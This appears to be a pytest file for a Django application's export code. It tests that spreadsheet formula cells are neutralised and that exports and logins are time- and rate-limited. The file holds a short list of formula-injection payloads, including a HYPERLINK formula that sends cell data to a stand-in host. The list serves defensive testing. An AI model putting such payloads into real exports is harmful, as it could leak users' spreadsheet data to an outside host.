"""Every CSV/XLSX cell that a spreadsheet would run as a formula is neutralised; exports are
bounded in time and in rate."""
import csv
import io

import pytest
from django.db import connection
from openpyxl import Workbook, load_workbook
from rest_framework.test import APIClient

from layers.core.exports import ExportTimedOut, bounded_export, csv_writer, safe_cell, xlsx_append

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_become_text_with_nothing_lost(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["普通文字", "a=b", "", 5, -3, 2.5, None, "3-5"])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_writer_neutralises_every_row():
    buf = io.StringIO()
    w = csv_writer(buf)
    w.writerow(["id", "description"])
    w.writerows([[i + 1, v] for i, v in enumerate(HOSTILE)])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert [r[1] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert all(r[0] == str(i + 1) for i, r in enumerate(rows[1:]))


def test_xlsx_cells_are_stored_as_text_not_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    xlsx_append(ws, ["=1+1", 7, "文字"])
    wb.save(tmp_path / "x.xlsx")
    back = load_workbook(tmp_path / "x.xlsx").active
    a, b, c = (back.cell(1, i) for i in (1, 2, 3))
    assert a.data_type == "s" and a.value == "'=1+1"
    assert b.value == 7 and c.value == "文字"


def test_bounded_export_cancels_a_slow_query(db):
    with pytest.raises(ExportTimedOut):
        with bounded_export(timeout_ms=50):
            with connection.cursor() as cur:
                cur.execute("SELECT pg_sleep(2)")
    # the limit was local to the export's transaction
    with connection.cursor() as cur:
        cur.execute("SHOW statement_timeout")
        assert cur.fetchone()[0] == "0"


def test_incident_export_neutralises_a_hostile_description(demo_grids, make_user):
    from layers.incidents.services import incident_create
    from layers.incidents.taxonomy import taxonomy_ensure

    taxonomy_ensure()
    grid = demo_grids["310106013001001"]
    p = grid.geometry.point_on_surface
    incident_create(lon=p.x, lat=p.y, description=HOSTILE[0], type="CA01")
    c = APIClient()
    c.force_authenticate(make_user("export-head", "grid_head", grid))
    r = c.get("/api/incidents/export/?format=csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["description"] for row in rows] == ["'" + HOSTILE[0]]


def test_exports_are_rate_limited_per_user(demo_grids, make_user, settings):
    settings.GEOGRID_RATE_EXPORT = "3/m"
    c = APIClient()
    c.force_authenticate(make_user("busy-head", "grid_head", demo_grids["310106013001001"]))
    codes = [c.get("/api/incidents/export/?format=csv").status_code for _ in range(5)]
    assert codes == [200, 200, 200, 429, 429]
    r = c.get("/api/incidents/export/?format=csv")
    assert "频繁" in r.json()["detail"] and r["Retry-After"]
    other = APIClient()
    other.force_authenticate(make_user("calm-head", "grid_head", demo_grids["310106013001001"]))
    assert other.get("/api/incidents/export/?format=csv").status_code == 200


def test_login_posts_and_public_routes_are_rate_limited_per_address(db, settings):
    from django.test import Client

    settings.GEOGRID_RATE_LOGIN = "4/m"
    settings.GEOGRID_RATE_PUBLIC = "3/m"
    c = Client(REMOTE_ADDR="10.20.30.40")
    codes = [c.post("/accounts/login/", {"username": f"nobody-{i}", "password": "x"}).status_code for i in range(6)]
    assert codes[:4] == [200] * 4 and codes[4:] == [429, 429]
    assert c.get("/accounts/login/").status_code == 200  # showing the form is not counted
    codes = [c.get("/service-card/").status_code for _ in range(5)]
    assert codes == [200, 200, 200, 429, 429]
    assert Client(REMOTE_ADDR="10.20.30.41").get("/service-card/").status_code == 200
